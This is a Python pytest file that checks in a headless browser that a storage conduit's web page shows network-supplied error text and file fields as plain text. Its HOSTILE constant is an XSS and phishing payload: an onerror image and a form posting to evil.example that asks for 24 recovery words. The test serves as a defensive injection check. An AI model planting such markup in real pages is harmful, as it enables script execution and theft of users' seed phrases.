"""Issue 15 item 3 in a real browser: network text reaches the conduit page only as text.

The conduit's own page script shows error text that comes from remote nodes
(an endpoint's error body, a refusal's detail) and file-list fields that
shard nodes return. Here every one of those carries HTML (an `<img>` whose
load would be a request to /x, and a `<form>` asking for the 24 words), and
the test asserts, in Debian's Chromium driven headless by Playwright, that
the page shows it literally and that no element was injected.

The conduit runs in this process (aiohttp in a thread); its `Network` is made
to return the hostile text (an error recorded for a cell's endpoint list, a
`NoEndpoint` whose message is the text), and the files API is answered by the
browser's request routing, so no cluster is needed.
"""

from __future__ import annotations

import asyncio
import json
import socket
import threading
from pathlib import Path

import pytest
from aiohttp import web

from borgusb.conduit import ConduitState, create_app, launch
from borgusb.conduit import app as conduit_app
from borgusb.conduit.network import NoEndpoint
from borgusb.keystore import KdfParams

from .browser import ARGS, CHROMIUM

WORDS = (
    "legal winner thank year wave sausage worth useful legal winner thank year wave sausage worth useful "
    "legal winner thank year wave sausage worth title"
)
FAST = KdfParams(iterations=1, lanes=1, memory_kib=1024)
HOSTILE = (
    '<img src=x onerror="window.__pwned=1"><form id=evil action="https://evil.example/">'
    "<b>Enter your 24 words</b><input name=words></form>"
)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class ConduitThread:
    """The conduit's aiohttp app served from a thread with its own event loop."""

    def __init__(self, app: web.Application, port: int) -> None:
        self.app, self.port = app, port
        self.loop = asyncio.new_event_loop()
        self.ready = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.runner: web.AppRunner | None = None

    def _run(self) -> None:
        asyncio.set_event_loop(self.loop)
        self.runner = web.AppRunner(self.app)
        self.loop.run_until_complete(self.runner.setup())
        self.loop.run_until_complete(web.TCPSite(self.runner, "127.0.0.1", self.port).start())
        self.ready.set()
        self.loop.run_forever()
        self.loop.run_until_complete(self.runner.cleanup())
        self.loop.close()

    def __enter__(self) -> str:
        self.thread.start()
        assert self.ready.wait(timeout=20), "the conduit did not start within 20 s"
        return f"http://127.0.0.1:{self.port}"

    def __exit__(self, *exc: object) -> None:
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(timeout=20)


@pytest.fixture
def hostile_conduit(tmp_path: Path):
    port = free_port()
    state = ConduitState(tmp_path / "stick" / "keystore.json", kdf=FAST)
    state.keystore_path.parent.mkdir()
    state.restore(WORDS, "correct horse battery")  # unlocked
    app = create_app(state, seeds=["127.0.0.250"], port=port)
    network = app[conduit_app.NETWORK]
    mode = {"tree": "entry-error"}

    async def refresh(cell: str, *args, **kwargs):
        if mode["tree"] == "raise":
            raise NoEndpoint(HOSTILE)  # the guard answers {"error": <text>} with 503
        entry = network.cells[cell]
        entry.members, entry.endpoints, entry.error = [], [], HOSTILE  # as recorded from an endpoint's error body
        return entry

    async def refresh_all(*args, **kwargs) -> None:
        return None

    network.refresh = refresh  # type: ignore[method-assign]
    network.refresh_all = refresh_all  # type: ignore[method-assign]
    with ConduitThread(app, port) as url:
        yield url, mode, launch.link(port, state.secret)


@pytest.fixture
def browser_page():
    if not Path(CHROMIUM).exists():
        pytest.fail("chromium is not installed: ./build.sh test installs it")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=ARGS)
        page = browser.new_page()
        page.probes = []  # type: ignore[attr-defined]
        page.on("request", lambda r: page.probes.append(r.url) if r.url.rstrip("/").endswith("/x") else None)
        try:
            yield page
        finally:
            browser.close()


def assert_literal(page, selector: str) -> None:
    """The hostile text is on the page as text, and nothing it describes exists."""
    page.wait_for_function(
        "sel => (document.querySelector(sel)?.textContent || '').includes('<img src=x')", arg=selector, timeout=15_000
    )
    text = page.inner_text(selector)
    assert "<form id=evil" in text and "Enter your 24 words" in text
    assert page.locator(f"{selector} img, {selector} form, {selector} input, {selector} b").count() == 0
    assert page.locator("#evil").count() == 0 and page.locator("form[action*='evil']").count() == 0
    assert page.evaluate("window.__pwned") is None
    assert page.probes == [], f"the injected <img> was loaded: {page.probes}"


def test_tree_errors_from_the_network_are_shown_as_text(hostile_conduit, browser_page) -> None:
    url, mode, link = hostile_conduit
    page = browser_page
    page.goto(link)  # unlocked: the home page, which draws the tree from /api/tree
    page.wait_for_selector("#tree")
    assert_literal(page, "#tree")  # drawTree: an endpoint list's error (data.error)

    mode["tree"] = "raise"
    page.goto(url + "/home")
    assert_literal(page, "#tree")  # refreshTree's catch: the API's error body (e.message)


def test_file_list_fields_and_errors_from_the_network_are_shown_as_text(hostile_conduit, browser_page) -> None:
    url, _, link = hostile_conduit
    page = browser_page
    hostile_file = {"id": HOSTILE, "name": HOSTILE, "size": HOSTILE, "t": 0, "copies": HOSTILE}
    answers = {"list": json.dumps({"files": [hostile_file]}), "status": 200}

    def files_api(route) -> None:
        route.fulfill(status=answers["status"], content_type="application/json", body=answers["list"])

    def download_api(route) -> None:  # a node's refusal of the download, passed on
        route.fulfill(status=502, content_type="application/json", body=json.dumps({"error": HOSTILE}))

    page.route("**/api/storage/list", files_api)
    page.route("**/api/storage/*/download", download_api)
    page.goto(link)
    page.goto(url + "/storage")
    page.wait_for_selector("#files tbody tr td")
    assert_literal(page, "#files tbody")
    with page.expect_request("**/download") as asked:
        page.locator("#files tbody button.download").click()
    assert asked.value.url.startswith(url + "/api/storage/%3Cimg%20src%3Dx")  # the id in the path, escaped
    assert_literal(page, "#file-detail")

    answers.update(list=json.dumps({"error": HOSTILE}), status=502)  # a node's refusal, passed on
    page.goto(url + "/storage")
    assert_literal(page, "#files-note")  # "Not refreshed." with the refusal, the list kept below
